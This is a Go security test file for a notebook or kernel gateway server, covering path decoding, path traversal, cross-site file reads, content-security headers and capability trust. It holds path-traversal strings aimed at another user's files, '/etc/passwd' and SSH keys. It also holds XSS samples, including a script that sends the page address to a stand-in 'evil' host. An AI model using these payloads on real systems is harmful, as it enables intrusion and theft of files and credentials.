package kernelgw_test

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"strings"
	"testing"

	"kernelgw/contents"
)

// The path of a file is decoded once, and what follows it is not taken for it.
func TestPathsOfFilesAreDecodedOnceAndKeepTheirEndings(t *testing.T) {
	g := start(t)
	for _, path := range []string{"a b.txt", "é/ü.txt", "100%.txt", "a%20b.txt", "a+b&c=d.txt", "%2e%2e.txt", "checkpoints/x.txt", "versions", "q?.txt", "#.txt", `"'.txt`} {
		g.file("math", path, path)
		escaped := strings.NewReplacer("%", "%25", " ", "%20", "?", "%3F", "#", "%23", "é", "%C3%A9", "ü", "%C3%BC", `"`, "%22").Replace(path)
		var model struct{ Path, Content string }
		g.want(g.ada("GET", "/api/contents/"+escaped+"?content=1", ""), 200).json(t, &model)
		if model.Path != path || model.Content != path {
			t.Errorf("%q came as %+v", path, model)
		}
		if got := g.want(g.ada("GET", "/files/"+escaped, ""), 200).body; got != path {
			t.Errorf("/files/%s is %q", escaped, got)
		}
		g.want(g.ada("POST", "/api/contents/"+escaped+"/checkpoints", ""), 201)
		var list []struct{ ID string }
		g.want(g.ada("GET", "/w/math/api/contents/"+escaped+"/checkpoints", ""), 200).json(t, &list)
		if len(list) != 1 {
			t.Fatalf("%q has %d checkpoints", path, len(list))
		}
		g.want(g.ada("POST", "/api/contents/"+escaped+"/checkpoints/"+list[0].ID, ""), 204)
		g.want(g.ada("DELETE", "/api/contents/"+escaped+"/checkpoints/"+list[0].ID, ""), 204)
		var versions struct{ Versions []struct{ ID string } }
		g.want(g.ada("GET", "/v1/workspaces/math/files/"+escaped+"/versions", ""), 200).json(t, &versions)
		if len(versions.Versions) != 2 {
			t.Errorf("%q has %d versions", path, len(versions.Versions))
		}
	}
	// An encoded slash is a slash of the path, and no ending begins at it.
	g.file("math", "d/checkpoints", "a file")
	g.want(g.ada("GET", "/api/contents/d%2Fcheckpoints?content=0", ""), 200)
}

// CVE-2026-35397, CVE-2026-5422 and their relatives, through the whole server.
func TestPathTraversal(t *testing.T) {
	g := start(t)
	g.file("bob", "secret.txt", "bob's")
	g.file("math", "a.txt", "ada's")
	for _, path := range []string{
		"../bob/secret.txt", "%2e%2e/bob/secret.txt", "..%2fbob%2fsecret.txt", "%2e%2e%2fbob%2fsecret.txt", "%252e%252e%252fbob/secret.txt",
		`..\bob\secret.txt`, "..%5cbob%5csecret.txt", "a/../../bob/secret.txt", "%00", "a.txt%00.ipynb", "/etc/passwd", "%2fetc%2fpasswd", "./a.txt",
		".ssh/id_rsa", "..", "%2e%2e", "a//b", ".%00./bob", "..%c0%afbob", strings.Repeat("a", 4096), strings.Repeat("a/", 2000), "a.txt/",
	} {
		for _, r := range [][2]string{
			{"GET", "/api/contents/" + path},
			{"GET", "/files/" + path},
			{"PUT", "/api/contents/" + path},
			{"DELETE", "/api/contents/" + path},
			{"GET", "/v1/workspaces/math/files/" + path + "/versions"},
		} {
			body := ""
			if r[0] == "PUT" {
				body = `{"type":"file","format":"text","content":"x"}`
			}
			if path == "a.txt/" && r[0] != "GET" {
				continue // a slash at the end changes nothing
			}
			got := g.ada(r[0], r[1], body)
			if strings.Contains(got.body, "bob's") || got.StatusCode >= 500 || (got.StatusCode < 300 && path != "a.txt/") {
				t.Errorf("%s %.80s: %d %.200s", r[0], r[1], got.StatusCode, got.body)
			}
		}
	}
}

func TestUploadsAreNotBoundedLikeOtherBodies(t *testing.T) {
	g := start(t)
	content := strings.Repeat("0123456789abcdef", 512<<10) // 8 MiB
	g.want(g.ada("PUT", "/api/contents/big.txt", `{"type":"file","format":"text","content":"`+content+`"}`), 201)
	got := g.want(g.ada("GET", "/files/big.txt", "", "Range: bytes=16-31"), http.StatusPartialContent)
	if got.body != "0123456789abcdef" {
		t.Errorf("a range is %q", got.body)
	}
	sum := sha256.Sum256([]byte(content))
	var model struct{ Hash string }
	g.want(g.ada("GET", "/api/contents/big.txt?content=0&hash=1", ""), 200).json(t, &model)
	if model.Hash != hex.EncodeToString(sum[:]) {
		t.Errorf("the hash is %s", model.Hash)
	}
	g.want(g.ada("POST", "/api/kernels", `{"path":"`+content+`"}`), http.StatusRequestEntityTooLarge)
}

// CVE-2023-40170: a page of another site reads what the cookie opens.
func TestFilesAreNotReadByPagesOfOtherSites(t *testing.T) {
	g := start(t)
	g.file("math", "a.html", "<script>alert(1)</script>")
	cookies, _ := g.login()
	for _, path := range []string{"/files/a.html", "/w/math/files/a.html", "/files/a.html?download=1"} {
		for site, want := range map[string]int{"": 200, "same-origin": 200, "none": 200, "same-site": 403, "cross-site": 403} {
			got := g.do("GET", path, "", "Cookie: "+cookies, "Sec-Fetch-Site: "+site)
			if got.StatusCode != want {
				t.Errorf("%s from %q: %d, want %d", path, site, got.StatusCode, want)
			}
		}
	}
	g.want(g.ada("GET", "/files/a.html", "", "Sec-Fetch-Site: cross-site"), 200) // a token is not sent by itself
	got := g.want(g.do("GET", "/files/a.html", "", "Cookie: "+cookies), 200)
	csp := got.Header.Get("Content-Security-Policy")
	if !strings.Contains(csp, "; sandbox allow-scripts") || strings.Contains(csp, "allow-same-origin") || got.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Errorf("a file is served with %v", got.Header)
	}
	if got := g.want(g.navigate("/files/a.html"), 302).Header.Get("Location"); got != "/login?next=%2Ffiles%2Fa.html" {
		t.Errorf("without a login: %s", got)
	}
	g.want(g.do("PUT", "/api/contents/a.html", `{"type":"file","format":"text","content":""}`, "Cookie: "+cookies), 403) // no XSRF
}

func TestVersionsAreServedAsNobody(t *testing.T) {
	g := start(t)
	e := g.file("math", "a.html", "<script>alert(1)</script>")
	got := g.want(g.ada("GET", "/v1/workspaces/math/files/a.html/versions/"+e.Version, ""), 200)
	csp := got.Header.Get("Content-Security-Policy")
	if !strings.HasSuffix(csp, "; default-src 'none'; sandbox") || !strings.Contains(got.body, "alert") {
		t.Errorf("%q with %q", got.body, csp)
	}
	g.want(g.do("GET", "/v1/workspaces/math/files/a.html/versions/"+e.Version, "", "Authorization: token "+bobToken), 404)
	// A client that has lost the id restores nothing.
	g.want(g.ada("POST", "/v1/workspaces/math/files/a.html/versions//restore", ""), 404)
}

// What the file storage says reaches the client with a status that means
// something, and the log with its cause.
func TestErrorsOfTheFileStorage(t *testing.T) {
	g := start(t)
	g.file("math", "a.txt", "1")
	g.files.Limit(10)
	got := g.want(g.ada("PUT", "/api/contents/b.txt", `{"type":"file","format":"text","content":"`+strings.Repeat("x", 100)+`"}`), http.StatusInsufficientStorage)
	var body struct{ Message, Reason string }
	if got.json(t, &body); !strings.Contains(body.Message, "no room") {
		t.Errorf("over the quota: %s", got.body)
	}
	g.want(g.ada("PUT", "/api/contents/a.txt", `{"type":"file","format":"text","content":"2"}`, `If-Match: "other"`), http.StatusPreconditionFailed)
	g.want(g.ada("PATCH", "/api/contents/a.txt", `{"path":"no/such/a.txt"}`), 404)
	g.files.FailNext("", 1, fmt.Errorf("%w: dial s3.internal: refused", contents.ErrUnavailable))
	got = g.want(g.ada("GET", "/api/contents/a.txt", ""), http.StatusServiceUnavailable)
	if got.Header.Get("Retry-After") == "" || strings.Contains(got.body, "s3.internal") {
		t.Errorf("without a storage: %v %s", got.Header, got.body)
	}
	if !strings.Contains(g.log.String(), "s3.internal") {
		t.Error("the log does not say why")
	}
}

func TestPathsInOutputsAreResolvedWithinTheWorkspace(t *testing.T) {
	g := start(t)
	g.file("math", "mod.py", "")
	g.file("math", "d/mod.py", "")
	g.file("math", "top.py", "")
	g.file("bob", "secret.py", "")
	var session struct{ Kernel struct{ ID string } }
	g.want(g.ada("POST", "/api/sessions", `{"path":"d/x.ipynb","type":"notebook","name":""}`), 201).json(t, &session)
	for asked, want := range map[string]string{
		"mod.py": "d/mod.py", "./mod.py": "d/mod.py", "../mod.py": "mod.py", "~/mod.py": "mod.py", "top.py": "top.py", "d": "d",
		"no.py": "", "/etc/passwd": "", "../../bob/secret.py": "", "~/../bob/secret.py": "", "..": "", "%00": "",
	} {
		var got struct {
			Resolved []struct{ Scope, Path string }
		}
		g.want(g.ada("GET", "/api/resolvePath?kernel="+session.Kernel.ID+"&path="+asked, ""), 200).json(t, &got)
		switch {
		case want == "" && len(got.Resolved) == 0:
		case want != "" && len(got.Resolved) == 1 && got.Resolved[0].Path == want && got.Resolved[0].Scope == "server":
		default:
			t.Errorf("%q is %+v, want %q", asked, got.Resolved, want)
		}
	}
	g.want(g.ada("GET", "/api/resolvePath", ""), 400)
	if got := g.ada("GET", "/api/resolvePath?path=x&kernel=nobody", "").body; !strings.Contains(got, "could not be found") {
		t.Errorf("of no kernel: %s", got)
	}
}

// The secret of a capability is in the address of what it opens, and a capability
// is handed to programs that may do less than who made it.
func TestCapabilityIsNeitherReadByFilesNorTrustsForItsMaker(t *testing.T) {
	g := start(t)
	at := g.capability("math") + "/"
	g.file("math", "a.html", "<script>fetch('//evil/'+location)</script>")
	csp := g.want(g.do("GET", at+"files/a.html", ""), 200).Header.Get("Content-Security-Policy")
	if !strings.HasSuffix(csp, "; sandbox") {
		t.Errorf("a file below a secret is served with %q", csp)
	}

	const cell = `{"cell_type":"code","source":"","execution_count":1,"id":"a","outputs":[{"output_type":"display_data","metadata":{},` +
		`"data":{"text/html":"<script>alert(1)</script>"}}],"metadata":{"trusted":true}}`
	g.want(g.do("PUT", at+"api/contents/x.ipynb",
		`{"type":"notebook","content":{"cells":[`+cell+`],"metadata":{},"nbformat":4,"nbformat_minor":5}}`), 201)
	trusted := func(r reply) bool { return strings.Contains(g.want(r, 200).body, `"trusted":true`) }
	if trusted(g.ada("GET", "/api/contents/x.ipynb", "")) {
		t.Error("who made the capability trusts what came by it")
	}
	if !trusted(g.do("GET", at+"api/contents/x.ipynb", "")) {
		t.Error("a client that comes by a capability does not find again what it trusted")
	}
	g.want(g.ada("POST", "/api/contents/x.ipynb/trust", ""), 201)
	if !trusted(g.ada("GET", "/api/contents/x.ipynb", "")) {
		t.Error("trust of one's own does not hold")
	}
}

// What a kernel puts out is trusted in the name of who started it only if it was
// that person, and nobody who got a capability of theirs.
func TestAKernelThatACapabilityStartsOrRestartsIsNotItsMakersOwn(t *testing.T) {
	g := start(t)
	at := g.capability("math")
	for _, under := range []string{"", at} {
		g.want(g.ada("POST", under+"/api/kernels", ""), 201)
		g.want(g.ada("POST", under+"/api/sessions", `{"path":"`+under+`x.ipynb","type":"notebook","kernel":{}}`), 201)
	}
	kernel := g.kernel("math")
	g.want(g.do("POST", at+"/api/kernels/"+kernel+"/restart", ""), 200)
	g.kernels.set(func(f *fakeKernels) {
		if len(f.starts) != 5 {
			t.Fatalf("started %+v", f.starts)
		}
		for i, want := range []bool{true, true, false, false} {
			if f.starts[i].Own != want || f.starts[i].Owner == "" {
				t.Errorf("start %d is %+v, want own %v", i, f.starts[i], want)
			}
		}
		owner := f.starts[0].Owner
		if len(f.used) != 1 || !strings.HasPrefix(f.used[0], kernel+" by ") || f.used[0] == kernel+" by "+owner {
			t.Errorf("used %q", f.used)
		}
	})
}
